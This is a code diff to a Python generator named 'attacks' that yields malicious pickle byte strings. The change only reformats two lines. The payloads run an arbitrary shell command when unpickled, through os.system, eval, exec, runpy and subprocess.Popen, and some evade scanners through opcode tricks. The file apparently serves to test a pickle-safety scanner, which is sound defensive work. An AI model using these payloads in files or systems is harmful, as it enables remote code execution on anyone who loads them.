@@ -112,7 +112,10 @@ def attacks(target):
     yield "GLOBAL", f"cposix\nsystem\n(X{chr(len(command))}\0\0\0{command}tR.".encode()
     yield "os.system", b"cos\nsystem\n(" + text(command) + b"tR."
     yield "STACK_GLOBAL", b"\x80\4" + text("os") + text("system") + b"\x93" + text(command) + b"\x85R."
-    yield "memo", b"\x80\4" + text("os") + b"\x940" + text("system") + b"\x940h\0h\1\x93" + text(command) + b"\x85R."
+    yield (
+        "memo",
+        b"\x80\4" + text("os") + b"\x940" + text("system") + b"\x940h\0h\1\x93" + text(command) + b"\x85R.",
+    )
     yield "eval", b"cbuiltins\neval\n(" + text(f"__import__('os').system('{command}')") + b"tR."
     yield "exec", b"c__builtin__\nexec\n(" + text(f"import os; os.system('{command}')") + b"tR."
     yield "getattr", b"cbuiltins\ngetattr\n(cnumpy\nndarray\n" + text("tofile") + b"tR."
@@ -125,7 +128,10 @@ def attacks(target):
     yield "torch bytes", b"ctorch.storage\n_load_from_bytes\n(C\1xtR."
     yield "runpy", b"crunpy\n_run_code\n(" + text(command) + b"}tR."
     yield "as a class", b"\x80\2csubprocess\nPopen\n" + text(command) + b"\x85\x81."
-    yield "as a class with keywords", b"\x80\4csubprocess\nPopen\n)}" + text("args") + text(command) + b"s\x92."
+    yield (
+        "as a class with keywords",
+        b"\x80\4csubprocess\nPopen\n)}" + text("args") + text(command) + b"s\x92.",
+    )
     yield "from the table", b"\x80\4" + text("builtins") + text("compile") + b"\x93."
     yield "persistent id", b"\x80\2" + text(command) + b"Q."
     yield "extension", b"\x80\2\x82\1."
